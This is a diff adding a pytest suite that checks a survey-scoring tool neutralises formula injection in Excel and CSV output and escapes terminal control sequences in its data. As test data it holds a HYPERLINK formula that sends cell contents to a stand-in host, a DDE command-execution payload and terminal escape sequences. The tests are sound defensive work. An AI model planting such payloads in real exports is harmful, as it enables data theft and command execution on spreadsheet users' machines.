@@ -1,0 +1,162 @@
+"""Text from hostile exports reaches every output harmless: no formula in the workbook or CSV, no
+escape sequence on the terminal, no crash on undecodable file names; the workbook is written in linear time."""
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import sys
+import zipfile
+
+import openpyxl
+import pytest
+
+from cxscore import Options, score
+from cxscore.report import excel
+from conftest import invoke, run_process
+
+HYPERLINK = '=HYPERLINK("http://x.example/?d="&A1,"click")'
+DDE = "=cmd|' /C calc'!A0"
+PAYLOADS = [HYPERLINK, DDE, "+1+1", "-2+3", "@SUM(A1)", "=1+1"]
+TITLE = "x\x1b]0;pwned\x07y"  # retitles a terminal
+RED = "\x1b[31mred"  # recolours it
+
+
+def _hostile_export(write_csv, control: bool = True):
+    """A channel column of formula payloads (and escape sequences), an answer column with a formula as an invalid answer."""
+    channels = PAYLOADS + ([TITLE, RED] if control else []) + ["Email"]
+    rows = [["=Channel", "How likely are you to recommend us?"]]
+    rows += [[channels[i % len(channels)], str(i % 11)] for i in range(180)]
+    rows.append(["Email", "=2+2"])  # an invalid answer: its text is shown as an example
+    return write_csv(rows)
+
+
+def _config(tmp_path, benchmark_source: str = DDE):
+    benchmarks = tmp_path / "bench.yaml"
+    benchmarks.write_text(
+        "benchmarks:\n"
+        f"  - {{id: ours, metric: nps, industry: Ours, value: 10, scale: nps, year: 2025, quality: P, kind: average, source: {json.dumps(benchmark_source)}}}\n",
+        encoding="utf-8",
+    )
+    config = tmp_path / "c.yaml"
+    config.write_text(
+        'metrics:\n  - {name: "=nps", type: nps, column: "How likely are you to recommend us?"}\n'
+        f"benchmarks_file: {json.dumps(str(benchmarks))}\nbenchmark: ours\n",
+        encoding="utf-8",
+    )
+    return config
+
+
+def _strings(path) -> dict[str, list[openpyxl.cell.Cell]]:
+    """Every text cell of the saved workbook, by value."""
+    found: dict = {}
+    for ws in openpyxl.load_workbook(path).worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
+                if isinstance(cell.value, str):
+                    found.setdefault(cell.value, []).append(cell)
+    return found
+
+
+def test_every_string_in_the_workbook_is_text_never_a_formula(tmp_path, write_csv):
+    export = _hostile_export(write_csv, control=False)  # (control characters: the next test)
+    out = tmp_path / "r.xlsx"
+    result = invoke(["report", str(export), "-c", str(_config(tmp_path)), "--by", "=Channel", "-o", str(out), "-q"])
+    assert result.exit_code == 0, result.stderr
+    with zipfile.ZipFile(out) as archive:  # what Excel reads: no <f> element at all, every data cell a string
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/sheet"):
+                xml = archive.read(name).decode("utf-8")
+                assert "<f>" not in xml and "<f " not in xml, name
+    cells = _strings(out)
+    for payload in PAYLOADS + ["=nps", "=nps: Group", "=Channel"]:  # segment values, metric and --by names, chart table label
+        assert payload in cells, payload
+        assert all(c.quotePrefix for c in cells[payload]), payload  # stays text when edited in Excel
+    assert cells["=nps"][0].parent.title == "Summary"
+    assert any(c.parent.title == "Distribution" and c.column == 7 for c in cells[HYPERLINK])  # the NPS group table too
+    assert any(DDE in value for value in cells), "the benchmark source"
+    assert any("'=2+2' ×1" in value or "=2+2 ×1" in value for value in cells), "the invalid-answer example"
+
+
+def test_control_characters_are_escaped_in_the_workbook(tmp_path, write_csv):
+    """Today openpyxl refuses them (IllegalCharacterError, exit 1)."""
+    out = tmp_path / "r.xlsx"
+    result = invoke(["report", str(_hostile_export(write_csv)), "--by", "=Channel", "-o", str(out), "-q"])
+    assert result.exit_code == 0, result.stderr
+    cells = _strings(out)
+    assert "x\\x1b]0;pwned\\x07y" in cells and "\\x1b[31mred" in cells
+    assert not any("\x1b" in value for value in cells)
+
+
+def test_a_cell_keeps_a_leading_tab_and_is_cut_at_excels_limit():
+    ws = openpyxl.Workbook().active
+    tab = excel.put(ws, 1, 1, "\t=1+1")
+    assert (tab.value, tab.data_type, tab.quotePrefix) == ("\t=1+1", "s", True)
+    cr = excel.put(ws, 2, 1, "\r=1+1")
+    assert cr.value == "\\r=1+1" and cr.data_type == "s"
+    plain = excel.put(ws, 3, 1, "Email")
+    assert plain.quotePrefix is False and excel.put(ws, 4, 1, 12.5).data_type == "n"
+    long = excel.put(ws, 5, 1, "x" * 40000)
+    assert len(long.value) == excel.CELL_LIMIT and long.value.endswith("…")
+
+
+def _csv(text: str) -> list[dict]:
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+def test_csv_escapes_formulas_by_default_and_writes_raw_on_request(tmp_path, write_csv):
+    export = _hostile_export(write_csv)
+    args = ["score", str(export), "-c", str(_config(tmp_path)), "--by", "=Channel", "-f", "csv", "-q"]
+    safe = _csv(invoke(args).stdout)
+    segments = {row["'=Channel"] for row in safe}
+    assert {"'" + p for p in PAYLOADS} <= segments and "Email" in segments
+    assert {row["metric"] for row in safe} == {"'=nps"}
+    assert {row["benchmark_source"] for row in safe} == {"'" + DDE}
+    assert {row["ci_low"] for row in safe if row["ci_low"].startswith("-")}, "numbers are not escaped"
+    raw = _csv(invoke(args + ["--csv-raw"]).stdout)
+    assert set(PAYLOADS) <= {row["=Channel"] for row in raw} and {row["metric"] for row in raw} == {"=nps"}
+
+
+def test_benchmarks_csv_escapes_a_user_files_text(tmp_path):
+    _config(tmp_path, benchmark_source="@SUM(1+1)")
+    args = ["benchmarks", "--benchmarks-file", str(tmp_path / "bench.yaml"), "--industry", "ours", "-f", "csv"]
+    assert _csv(invoke(args).stdout)[0]["source"] == "'@SUM(1+1)"
+    assert _csv(invoke(args + ["--csv-raw"]).stdout)[0]["source"] == "@SUM(1+1)"
+
+
+@pytest.mark.parametrize("fmt", ["table", "markdown"])
+def test_terminal_escape_sequences_from_the_data_are_shown_escaped(write_csv, fmt):
+    result = invoke(["score", str(_hostile_export(write_csv)), "--by", "=Channel", "-f", fmt, "-q"], env={"NO_COLOR": "1"})
+    assert result.exit_code == 0
+    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
+    assert "x\\x1b]0;pwned\\x07y" in result.stdout and "\\x1b[31mred" in result.stdout
+
+
+@pytest.mark.skipif(sys.platform != "linux", reason="file names are bytes on Linux")
+def test_a_file_name_that_is_not_utf8_is_written_escaped(tmp_path, write_csv):
+    export = _hostile_export(write_csv)
+    odd = os.fsencode(tmp_path) + b"/survey\xff.csv"
+    os.rename(export, odd)
+    as_json = run_process(["score", odd, "-f", "json", "-q"])
+    assert as_json.returncode == 0, as_json.stderr
+    assert json.loads(as_json.stdout)["inputs"][0]["path"].endswith("survey\\xff.csv")
+    out = tmp_path / "r.xlsx"
+    workbook = run_process(["report", odd, "-o", str(out), "-q"])
+    assert workbook.returncode == 0, workbook.stderr
+    assert openpyxl.load_workbook(out)["Data quality"]["A2"].value.endswith("survey\\xff.csv")
+    table = run_process(["score", odd, "--by", "file", "-f", "csv", "-q"])
+    assert table.returncode == 0 and b"survey\\xff.csv" in table.stdout
+
+
+def test_the_workbook_writer_does_not_rescan_the_sheet_per_row(write_csv, monkeypatch):
+    """openpyxl's max_row scans every cell; asked once per row it made 8,000 segments take minutes."""
+    rows = [["customer", "How likely are you to recommend us?"]] + [[f"C{i:04d}", str(i % 11)] for i in range(600)]
+    report = score([str(write_csv(rows))], options=Options(by=["customer"], distribution=True))
+    calls = []
+    real = openpyxl.worksheet.worksheet.Worksheet.max_row
+    monkeypatch.setattr(openpyxl.worksheet.worksheet.Worksheet, "max_row", property(lambda ws: calls.append(1) or real.fget(ws)))
+    workbook = excel.build(report)
+    assert workbook["Segments"].max_row == 601
+    assert len(calls) <= 12  # a few per sheet, none per row (600 segments)
